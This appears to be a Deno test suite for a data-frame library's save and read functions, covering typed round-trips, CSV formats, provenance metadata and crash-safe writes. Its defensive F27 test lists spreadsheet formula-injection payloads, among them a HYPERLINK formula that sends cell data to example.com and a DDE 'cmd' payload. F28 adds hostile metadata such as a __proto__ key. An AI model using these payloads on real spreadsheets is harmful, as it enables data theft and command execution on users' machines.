/**
 * A frame that is saved comes back as it was: values, types, zones, declared columns, origin.
 *
 * @module
 */
import pl, { type DataFrame } from "nodejs-polars";
import { assert, assertEquals, assertMatch, assertRejects, assertThrows } from "@std/assert";
import { afterAll, beforeAll, describe, it } from "@std/testing/bdd";
import type { Column, Dtype } from "../../../src/api/columns/column.ts";
import { ArgumentError, ConfigurationError, DataFormatError } from "../../../src/api/errors.ts";
import { buildFrame, buildSeries } from "../../../src/frames/frame.ts";
import {
  describeFrame,
  type Provenance,
  provenance,
} from "../../../src/frames/origin/provenance.ts";
import { readProduction } from "../../../src/frames/presets/read_production.ts";
import {
  isSyntheticFile,
  parseMetadata,
  readFileOrigin,
} from "../../../src/frames/storage/frame_metadata.ts";
import { readFrame } from "../../../src/frames/storage/read_frame.ts";
import { saveFrame, type SaveFrameOptions } from "../../../src/frames/storage/save_frame.ts";
import { displayOf } from "../../../src/show/check_frame.ts";
import { randomNumbers } from "../_random.ts";
import { column, listColumn } from "../_text.ts";

const dtypes: readonly Dtype[] = ["f64", "i32", "i64", "utf8", "bool", "date", "datetime"];
const zones = ["UTC", "Europe/Copenhagen", "Asia/Kolkata", "America/St_Johns", "Pacific/Chatham"];

const origin: Provenance = {
  operation: "modelData",
  parameters: { turbine_id: "T1", max_distance: 100 },
  fetchedAt: "2026-11-21T09:30:00Z",
  sha256: ["ab".repeat(32), "cd".repeat(32)],
  world: "live",
  attribution: ["Contains modified Copernicus Climate Change Service information 2026"],
  notes: ["figures of the cache"],
};

const power: Column = {
  name: "power",
  dtype: "f64",
  unit: "kW",
  range: [0, null],
  decimals: 1,
  label: "Power",
  description: "Mean power, in the hour",
  tag: "ours",
  notNull: true,
  key: true,
};

let folder = "";
let files = 0;
const fresh = (ending: string) => `${folder}/${files++}.${ending}`;

async function saveAndRead(frame: DataFrame, ending: string, options?: SaveFrameOptions) {
  const path = fresh(ending);
  await saveFrame(frame, path, options);
  return { path, frame: await readFrame(path) };
}

/** All values, to the microsecond and the sign of zero. */
function listValues(frame: DataFrame): unknown[] {
  return frame.columns.map((name) => {
    const series = frame.getColumn(name);
    const type = String(series.dtype);
    const exact = type.includes("Date") || type.includes("Int64") ? pl.Int64 : undefined;
    const plain = exact ? series.cast(exact).cast(pl.Utf8) : series;
    return [name, type, ...plain.toArray()];
  });
}

const forms: readonly [string, SaveFrameOptions][] = [
  ["parquet", {}],
  ["csv", {}],
  ["csv", { decimal: ",", bom: true }],
  ["csv", { safe: true }],
  ["csv", { safe: true, decimal: "," }],
];

/** Gives the tests of a suite their own folder. */
function inFolder(): void {
  beforeAll(async () => {
    folder = await Deno.makeTempDir();
  });
  afterAll(() => Deno.remove(folder, { recursive: true }));
}

describe("saveFrame() and readFrame()", () => {
  inFolder();
  const random = randomNumbers(7);
  const pick = <T>(list: readonly T[]) => list[random(list.length)];
  const letters = [..."aZ0 =+-@'\"\t\r\n,;#|.äß風\u{1f32c}\ufeff\u00a0"];
  const value = (dtype: Dtype): unknown => {
    if (random(5) === 0) return null;
    switch (dtype) {
      case "f64":
        return pick([
          0,
          -0,
          0.1,
          -1.5,
          1e21,
          5e-324,
          1 / 3,
          1234.5,
          -999,
          2 ** 53,
          random(1e6) / 7,
        ]);
      case "i32":
        return pick([0, -(2 ** 31), 2 ** 31 - 1, random(1e6), -999]);
      case "i64":
        return pick([0n, -(2n ** 63n), 2n ** 63n - 1n, BigInt(random(1e9)), 9007199254740993n]);
      case "bool":
        return random(2) === 0;
      case "date":
        return random(60_000) - 20_000;
      case "datetime":
        // From 1913 to 2089, some of them with microseconds.
        return (random(5.5e9) - 1.8e9) * 1e6 + (random(3) === 0 ? random(1e6) : 0);
      case "utf8":
        return Array.from({ length: random(6) }, () => pick(letters)).join("");
    }
  };
  const table = () => {
    const height = random(8);
    const width = 1 + random(8);
    return pl.DataFrame(Array.from({ length: width }, (_, i) => {
      const dtype = pick(dtypes);
      const values = Array.from({ length: height }, () => value(dtype)) as (string | null)[];
      return buildSeries(column(`${dtype}_${i}`, dtype), values, pick(zones));
    }));
  };

  for (const [ending, options] of forms) {
    it(`bring any frame back: .${ending} ${JSON.stringify(options)}`, async () => {
      for (let i = 0; i < 60; i++) {
        const frame = table();
        const { frame: read } = await saveAndRead(frame, ending, options);
        assertEquals(listValues(read), listValues(frame));
      }
    });

    it(`bring columns and origin back: .${ending} ${JSON.stringify(options)}`, async () => {
      const frame = describeFrame(
        pl.DataFrame([buildSeries(power, [1.5, null]), pl.Series("other", ["a", "b"], pl.Utf8)]),
        [power],
        origin,
      );
      const { frame: read } = await saveAndRead(frame, ending, options);
      assertEquals(displayOf(read)?.columns, [power]);
      assertEquals(provenance(read), [origin]);
    });

    it(`keep types where there are no rows: .${ending} ${JSON.stringify(options)}`, async () => {
      const frame = buildFrame(
        dtypes.map((dtype) => column(dtype, dtype)),
        Object.fromEntries(dtypes.map((dtype) => [dtype, []])),
        "Europe/Copenhagen",
      );
      const { frame: read } = await saveAndRead(frame, ending, options);
      assertEquals(read.dtypes.map(String), frame.dtypes.map(String));
    });
  }

  it("say that a file was changed after it was saved", async () => {
    const frame = describeFrame(pl.DataFrame([buildSeries(power, [1.5, 2])]), [power], origin);
    const { path } = await saveAndRead(frame, "csv");
    await Deno.writeTextFile(path, "power\n1.5\n3\n");
    const read = await readFrame(path);
    assertEquals(listColumn(read, "power"), [1.5, 3]);
    assertEquals(provenance(read)[0]?.notes, [
      ...origin.notes!,
      `${path.split("/").at(-1)} was changed after it was saved`,
    ]);
  });

  it("M11: quote a text with a #, after which pandas would see a comment", async () => {
    const name = column("name", "utf8");
    const frame = pl.DataFrame([buildSeries(name, ["WTG #3", "WTG 4"])]);
    const { path } = await saveAndRead(describeFrame(frame, [name], origin), "csv");
    assertEquals(await Deno.readTextFile(path), 'name\n"WTG #3"\nWTG 4\n');
  });

  it("find columns by their names if somebody moved them", async () => {
    const frame = pl.DataFrame([buildSeries(power, [1.5]), pl.Series("b", ["x"], pl.Utf8)]);
    const { path } = await saveAndRead(frame, "csv");
    await Deno.writeTextFile(path, "b,power\ny,2.5\n");
    assertEquals(listColumn(await readFrame(path), "power"), [2.5]);
  });

  it("accept an address as well", async () => {
    const url = new URL(`file://${folder}/in%20a%20folder.parquet`);
    await saveFrame(pl.DataFrame([buildSeries(power, [1.5])]), url);
    assert((await Deno.stat(`${folder}/in a folder.parquet`)).isFile);
    assertEquals(listColumn(await readFrame(url), "power"), [1.5]);
  });

  it("accept columns with replaced declarations", async () => {
    const frame = describeFrame(pl.DataFrame([buildSeries(power, [1.5])]), [power], origin);
    const { path } = await saveAndRead(frame, "csv");
    const label = { ...power, label: "Leistung" };
    assertEquals(displayOf(await readFrame(path, { columns: [label] }))?.columns, [label]);
    const other = fresh("parquet");
    await saveFrame(pl.DataFrame([buildSeries(power, [1.5])]), other, { columns: [label] });
    assertEquals(displayOf(await readFrame(other))?.columns, [label]);
  });

  it("read other Parquet files, without metadata", async () => {
    const fixtures = new URL("../../fixtures/production/", import.meta.url);
    const frame = await readFrame(new URL("hours.parquet", fixtures));
    assertEquals(frame.columns, ["timestamp", "power_mw"]);
    assertEquals(provenance(frame).map(({ operation, world }) => [operation, world]), [[
      "readFrame",
      "own",
    ]]);
  });
});

describe("saveFrame() as CSV", () => {
  inFolder();
  it("writes numbers with all digits, stamps with their offset, nothing for missing", async () => {
    const time = buildSeries(
      column("time", "datetime"),
      [Date.UTC(2023, 9, 29, 0) * 1000, Date.UTC(2023, 9, 29, 1) * 1000],
      "Europe/Copenhagen",
    );
    const path = fresh("csv");
    await saveFrame(pl.DataFrame([time, buildSeries(power, [1 / 3, null])]), path);
    assertEquals(
      await Deno.readTextFile(path),
      "time,power\n2023-10-29T02:00:00+02:00,0.3333333333333333\n2023-10-29T02:00:00+01:00,\n",
    );
  });

  it("writes decimal commas between semicolons, and a byte order mark for Excel", async () => {
    const path = fresh("csv");
    const frame = pl.DataFrame([buildSeries(power, [1234.5]), pl.Series("note", ["a;b"], pl.Utf8)]);
    await saveFrame(frame, path, { decimal: ",", bom: true });
    const bytes = await Deno.readFile(path);
    assertEquals([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assertEquals(new TextDecoder().decode(bytes), 'power;note\n1234,5;"a;b"\n');
  });

  it("describes its columns, its format and its origin in a file next to it", async () => {
    const path = fresh("csv");
    const frame = describeFrame(pl.DataFrame([buildSeries(power, [1.5])]), [power], origin);
    await saveFrame(frame, path, { decimal: "," });
    const { title, sha256: _, ...metadata } = JSON.parse(
      await Deno.readTextFile(`${path}-metadata.json`),
    );
    assertMatch(title, /^modelData from live service/);
    assertEquals(metadata, {
      synthetic: false,
      csv: { decimal: ",", safe: false },
      columns: [{ name: "power", dtype: "f64", column: power }],
      origin: [origin],
    });
  });

  it("F27 writes no text that a spreadsheet reads as a formula", async () => {
    const attacks = [
      '=HYPERLINK("http://example.com/?"&A1,"total")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "park;=1+1",
      "park,=1+1",
      "line\n=1+1",
      "\uff1d1+1",
    ];
    const path = fresh("csv");
    const frame = pl.DataFrame([
      pl.Series("=name", attacks, pl.Utf8),
      pl.Series("energy", attacks.map((_, i) => -i - 0.5), pl.Float64),
    ]);
    await saveFrame(frame, path, { safe: true });
    const written = await Deno.readTextFile(path);
    // However a spreadsheet splits it, no cell except numbers begins with one of the marks.
    const cells = written.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^"+/, ""));
    const formulas = cells.filter((cell) => /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell));
    assertEquals(formulas, attacks.map((_, i) => String(-i - 0.5)));
    const read = await readFrame(path);
    assertEquals(listColumn(read, "=name"), attacks);
    assertEquals(listColumn(read, "energy")[1], -1.5);
  });

  it("F27 changes nothing without the option, and no harmless text", async () => {
    const frame = pl.DataFrame([pl.Series("a", ["=1+1", "Nord - Süd", "a=b"], pl.Utf8)]);
    const [plain, safe] = [fresh("csv"), fresh("csv")];
    await saveFrame(frame, plain);
    await saveFrame(frame, safe, { safe: true });
    assertEquals(await Deno.readTextFile(plain), "a\n=1+1\nNord - Süd\na=b\n");
    assertEquals(await Deno.readTextFile(safe), "a\n'=1+1\nNord - Süd\na=b\n");
  });
});

describe("saveFrame() refuses", () => {
  inFolder();
  const one = () => pl.DataFrame([buildSeries(power, [1])]);

  it("to replace a file without overwrite, and leaves nothing behind", async () => {
    const path = fresh("csv");
    await saveFrame(one(), path);
    const before = await Deno.readTextFile(path);
    const other = pl.DataFrame([buildSeries(power, [2])]);
    await assertRejects(() => saveFrame(other, path), ArgumentError, "give overwrite: true");
    assertEquals(await Deno.readTextFile(path), before);
    await saveFrame(other, path, { overwrite: true });
    assertEquals(listColumn(await readFrame(path), "power"), [2]);
    const left = Array.from(Deno.readDirSync(folder)).filter(({ name }) => name.endsWith(".part"));
    assertEquals(left, []);
  });

  it("to replace metadata of another file", async () => {
    const path = fresh("csv");
    await Deno.writeTextFile(`${path}-metadata.json`, "{}");
    await assertRejects(() => saveFrame(one(), path), ArgumentError, "metadata.json");
    await assertRejects(() => Deno.stat(path), Deno.errors.NotFound);
  });

  it("an unknown ending", async () => {
    for (const name of ["a.xlsx", "a", "a.csv.gz"]) {
      await assertRejects(() => saveFrame(one(), `${folder}/${name}`), ArgumentError, name);
    }
  });

  it("NaN and infinity: missing is null", async () => {
    for (const [value, ending] of [[NaN, "csv"], [Infinity, "parquet"], [-Infinity, "parquet"]]) {
      const frame = pl.DataFrame([buildSeries(power, [1, value as number])]);
      await assertRejects(
        () => saveFrame(frame, fresh(ending as string)),
        ArgumentError,
        `column "power" is ${value} in row 2`,
      );
    }
  });

  it("columns that CSV cannot hold", async () => {
    const lists = pl.DataFrame({ a: [[1, 2], [3]] });
    await assertRejects(
      () => saveFrame(lists, fresh("csv")),
      ArgumentError,
      "Save the frame as .parquet",
    );
    await saveAndRead(lists, "parquet");
    const nul = pl.DataFrame([pl.Series("a", ["x\0y"], pl.Utf8)]);
    await assertRejects(() => saveFrame(nul, fresh("csv")), ArgumentError, "NUL");
  });

  it("options that only apply to CSV", async () => {
    await assertRejects(
      () => saveFrame(one(), fresh("parquet"), { safe: true }),
      ArgumentError,
      "only to CSV",
    );
    await assertRejects(
      () => saveFrame(one(), fresh("csv"), { decimal: ";" as "," }),
      ArgumentError,
      '"decimal" is ";". Give "." or ","',
    );
  });

  it("a missing folder, and leaves nothing behind", async () => {
    await assertRejects(() => saveFrame(one(), `${folder}/none/a.csv`), ConfigurationError);
  });
});

describe("saveFrame() in a process that is killed", () => {
  inFolder();

  it("F39 leaves the old file or the new one, complete", async () => {
    const path = `${folder}/frame.parquet`;
    const program = `
      import pl from "nodejs-polars";
      import { saveFrame } from "${new URL(
      "../../../src/frames/storage/save_frame.ts",
      import.meta.url,
    )}";
      for (let n = 1;; n++) {
        const values = new Float64Array(300_000).fill(n);
        const frame = pl.DataFrame([pl.Series("n", values, pl.Float64)]);
        await saveFrame(frame, ${JSON.stringify(path)}, { overwrite: true });
        console.log(n);
      }`;
    const config = new URL("../../../deno.json", import.meta.url).pathname;
    const child = new Deno.Command(Deno.execPath(), {
      args: ["run", "-q", "--no-check", "-A", "--config", config, "-"],
      stdin: "piped",
      stdout: "piped",
      stderr: "null",
    }).spawn();
    const writer = child.stdin.getWriter();
    await writer.write(new TextEncoder().encode(program));
    await writer.close();
    const reader = child.stdout.getReader();
    for (let lines = 0; lines < 5;) {
      const { value } = await reader.read();
      lines += new TextDecoder().decode(value).split("\n").length - 1;
    }
    child.kill("SIGKILL");
    await reader.cancel();
    await child.status;
    const frame = await readFrame(path);
    const [first] = listColumn(frame, "n");
    assertEquals(frame.height, 300_000);
    assertEquals(frame.filter(pl.col("n").eq(pl.lit(first as number))).height, 300_000);
  });
});

describe("readFrame() refuses", () => {
  inFolder();
  const saved = async () => {
    const path = fresh("csv");
    const frame = pl.DataFrame([
      buildSeries(power, [1.5, 2]),
      buildSeries(column("n", "i32"), [1, 2]),
      buildSeries(column("ok", "bool"), [true, null]),
      buildSeries(column("day", "date"), [19_000, 19_001]),
      buildSeries(column("time", "datetime"), [1.7e15, 1.7001e15], "Europe/Copenhagen"),
    ]);
    await saveFrame(frame, path);
    return { path, text: await Deno.readTextFile(path) };
  };

  it("values of another type than saved, by line and column", async () => {
    const { path, text } = await saved();
    const cases: [string, string, string][] = [
      ["1.5", "1,5", "line 2"],
      ["1.5", '"1,5"', 'line 2, column "power": "1,5" is not a number'],
      ["true", "yes", 'line 2, column "ok": "yes" is not true or false'],
      ["2022-01-08", "08.01.2022", 'line 2, column "day": "08.01.2022" is not a day'],
      ["2023-11-14T23:13:20+01:00", "2023-11-14T23:13:20", '"2023-11-14T23:13:20" is not a time'],
      [",2,", ",2.5,", 'line 3, column "n": "2.5" is not a 32-bit integer'],
      ["power", "leistung", '"power"'],
    ];
    for (const [from, to, message] of cases) {
      assert(text.includes(from), from);
      await Deno.writeTextFile(path, text.replace(from, to));
      await assertRejects(() => readFrame(path), DataFormatError, message);
    }
  });

  it("F28 metadata that are invalid, deep, huge or hostile", async () => {
    const { path } = await saved();
    const metadataFile = `${path}-metadata.json`;
    const intact = await Deno.readTextFile(metadataFile);
    const bad = [
      "",
      "{}",
      "[]",
      "[".repeat(100_000),
      intact.replace('"f64"', "5"),
      intact.replace('"decimal": "."', '"decimal": "x"'),
    ];
    for (const text of bad) {
      await Deno.writeTextFile(metadataFile, text);
      await assertRejects(
        () => readFrame(path),
        DataFormatError,
        `Cannot read ${metadataFile}: it is no`,
      );
    }
    await Deno.writeTextFile(metadataFile, intact.replace("Europe/Copenhagen", "Europe/Nowhere"));
    await assertRejects(
      () => readFrame(path),
      DataFormatError,
      '"Europe/Nowhere" of column "time"',
    );
    await Deno.writeTextFile(metadataFile, intact.replace('"name": "n"', '"name": "power"'));
    await assertRejects(() => readFrame(path), DataFormatError, '"power" is duplicated');
    await Deno.writeTextFile(metadataFile, intact.replace('"title"', '"__proto__": 1, "title"'));
    await readFrame(path);
    assertEquals(({} as Record<string, unknown>).name, undefined);
  });

  it("NB9: a frame that readFrame() could not read again, before writing it", async () => {
    const withName = (length: number) => pl.DataFrame([pl.Series("x".repeat(length), [1])]);
    const path = fresh("parquet");
    const words = "readFrame() could not read the file, because ";
    await assertRejects(() => saveFrame(withName(100_001), path), ArgumentError, words);
    await assertRejects(() => Deno.stat(path), Deno.errors.NotFound);
    await saveFrame(withName(100_000), path); // as the message advises
    assertEquals((await readFrame(path)).width, 1);
  });

  it("NB9: metadata of more than 20,000 columns", async () => {
    // Polars takes minutes for a frame as wide: each of its properties lists all names.
    const { path } = await saved();
    const metadata = JSON.parse(await Deno.readTextFile(`${path}-metadata.json`));
    const parse = (width: number) => {
      metadata.columns = Array.from({ length: width }, (_, i) => ({ name: `c${i}` }));
      return parseMetadata(new TextEncoder().encode(JSON.stringify(metadata)), (problem) => {
        throw new DataFormatError(problem);
      });
    };
    assertEquals(parse(20_000).columns.length, 20_000);
    assertThrows(() => parse(20_001), DataFormatError, "columns: Too big");
  });

  it("a truncated Parquet file", async () => {
    const path = fresh("parquet");
    await saveFrame(pl.DataFrame([buildSeries(power, [1])]), path);
    const bytes = await Deno.readFile(path);
    await Deno.writeFile(path, bytes.subarray(0, bytes.length - 5));
    await assertRejects(() => readFrame(path), DataFormatError, "not a complete Parquet file");
  });
});

// Last, because after these tests frames without a source are marked as well.
describe("files of the sample", () => {
  inFolder();

  it("keep the figures of the sample SYNTHETIC, in the file and in its metadata", async () => {
    const sample = { ...origin, world: "sample" } as const;
    const frame = describeFrame(pl.DataFrame([buildSeries(power, [1.5])]), [power], sample);
    for (const ending of ["parquet", "csv"]) {
      const { path, frame: read } = await saveAndRead(frame, ending);
      assertEquals(displayOf(read)?.synthetic, true);
      assertMatch(await Deno.readTextFile(`${path}-metadata.json`), /"title": ".*SYNTHETIC/);
    }
    const { path } = await saveAndRead(frame, "csv");
    assertEquals(
      await Deno.readTextFile(path),
      "# SYNTHETIC: the built-in sample, not real data\npower\n1.5\n",
    );
    // Even if the metadata are lost.
    await Deno.remove(`${path}-metadata.json`);
    const withoutMetadata = await readFrame(path, { columns: [power] });
    assertEquals(displayOf(withoutMetadata)?.synthetic, true);
    assertEquals(provenance(withoutMetadata)[0]?.world, "sample");
  });

  it("keep production of the sample SYNTHETIC, whatever kind of file readProduction() reads", async () => {
    const sample = { ...origin, world: "sample" } as const;
    const time = buildSeries(column("time", "datetime"), [Date.UTC(2023, 4, 1) * 1000], "UTC");
    const frame = pl.DataFrame([time, buildSeries(power, [1.5])]);
    describeFrame(frame, [power], sample);
    const how = { column: "power", time: "time", resolution: "hour", unit: "kW" } as const;
    for (const ending of ["parquet", "csv"]) {
      const { path } = await saveAndRead(frame, ending);
      const production = await readProduction(path, how);
      assertEquals(displayOf(production)?.synthetic, true, ending);
      assertEquals(provenance(production), [sample]);
    }
    // Other programs describe their tables in files of that name, too.
    const theirs = fresh("csv");
    await Deno.writeTextFile(theirs, "time,power\n2023-05-01T00:00Z,1.5\n");
    await Deno.writeTextFile(`${theirs}-metadata.json`, '{ "url": "theirs.csv" }');
    assertEquals(displayOf(await readProduction(theirs, how))?.synthetic, false);
    // Even if a spreadsheet put the line in quotes, or read its comma as the end of a field.
    for (
      const line of [
        '"# SYNTHETIC: the built-in sample, not real data"',
        "# SYNTHETIC: the built-in sample; not real data",
      ]
    ) {
      const path = fresh("csv");
      await Deno.writeTextFile(path, `${line}\ntime;power\n2023-05-01T00:00Z;1,5\n`);
      assertEquals(displayOf(await readProduction(path, how))?.synthetic, true, line);
    }
  });

  it("keep the mark of a file with damaged metadata", async () => {
    const { path } = await saveAndRead(
      describeFrame(pl.DataFrame([buildSeries(power, [1.5])]), [power], {
        ...origin,
        world: "sample",
      }),
      "parquet",
    );
    const metadataFile = `${path}-metadata.json`;
    const intact = await Deno.readTextFile(metadataFile);
    await Deno.writeTextFile(metadataFile, intact.slice(0, -20));
    assertEquals(await isSyntheticFile(path, await Deno.readFile(path)), true);
    const [source] = await readFileOrigin(path, await Deno.readFile(path), "readProduction");
    assertEquals(source.world, "sample");
  });
});
